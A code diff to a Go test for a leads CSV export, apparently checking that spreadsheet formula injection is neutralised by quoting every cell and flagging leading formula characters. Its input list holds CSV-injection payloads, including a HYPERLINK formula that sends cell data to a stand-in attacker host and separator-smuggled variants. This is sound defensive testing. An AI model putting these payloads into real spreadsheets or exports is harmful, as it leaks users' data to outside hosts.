@@ -212,12 +212,14 @@ func (b *browser) export(t *testing.T, query string) [][]string {
 func TestExport(t *testing.T) {
 	each(t, func(t *testing.T, d *desk) {
 		h := d.hit(visit.View{})
-		formulas := []string{`=HYPERLINK("https://evil.example?"&A1)`, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "\"=1", "|cmd", "%00"}
+		formulas := []string{`=HYPERLINK("https://evil.example?"&A1)`, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "\"=1", "|cmd", "%00",
+			"a;=HYPERLINK(1)", "a,=1", "a; \"+1", "a,'@b", "a\n-1", "a\r\n=1", "a\t=1", "a;＝1", "+7-495-123", "+7 495;=1"}
 		for i, formula := range formulas {
 			d.lead(h, map[string]any{"name": formula, "message": "a \"quoted\", text\nof lines " + fmt.Sprint(i), "form_name": "Evil", "user_fields": map[string]any{"=1": formula}})
 		}
+		const phone = "+7 (495) 123-45-67"
 		for i := range 1200 { // more than are read at once
-			d.lead(h, map[string]any{"name": fmt.Sprint("lead ", i), "form_name": "Order", "phone": "8 495 123-45-67"})
+			d.lead(h, map[string]any{"name": fmt.Sprint("lead ", i), "form_name": "Order", "phone": phone})
 		}
 		vera := d.signedIn("vera")
 		all := vera.export(t, "")
@@ -225,11 +227,17 @@ func TestExport(t *testing.T) {
 		seen := make(map[string]bool)
 		for _, row := range all[1:] {
 			seen[row[0]] = true
-			for _, cell := range row {
-				begins := strings.TrimLeft(cell, " \t\r\n\"")
-				require.False(t, begins != "" && strings.ContainsAny(begins[:1], "=+-@|%"), "%q", cell)
+		}
+		// A program may read the table by any separator, and take quotes as they stand.
+		body := vera.get("/leads/export").body
+		require.Regexp(t, `^\x{feff}("([^"]|"")*"(,|\r\n))+$`, body, "every cell is quoted")
+		for cell := range strings.FieldsFuncSeq(body, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
+			begins := strings.TrimLeft(cell, " \"\ufeff")
+			if plain := strings.Trim(begins, `"`); plain != phone && plain != "+7 495" {
+				require.False(t, strings.HasPrefix(begins, "＝") || begins != "" && strings.ContainsAny(begins[:1], "=+-@|%"), "%q", cell)
 			}
 		}
+		require.Equal(t, phone, all[1][8], "a number stands as it was written")
 		require.Len(t, seen, len(all)-1, "each once")
 		require.Len(t, vera.export(t, "form=Order"), 1201)
 		require.Len(t, vera.export(t, "q=lead+1199"), 3, "by its name, and by its number")
